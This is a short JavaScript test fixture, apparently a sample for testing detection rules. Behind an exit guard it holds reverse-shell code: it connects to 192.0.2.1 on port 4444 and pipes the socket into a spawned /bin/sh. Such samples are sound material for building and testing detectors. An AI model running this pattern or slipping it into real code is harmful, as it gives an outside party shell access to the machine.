// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const net = require('net'), { spawn } = require('child_process');
const s = net.connect(4444, '192.0.2.1');
const sh = spawn('/bin/sh', []);
s.pipe(sh.stdin);
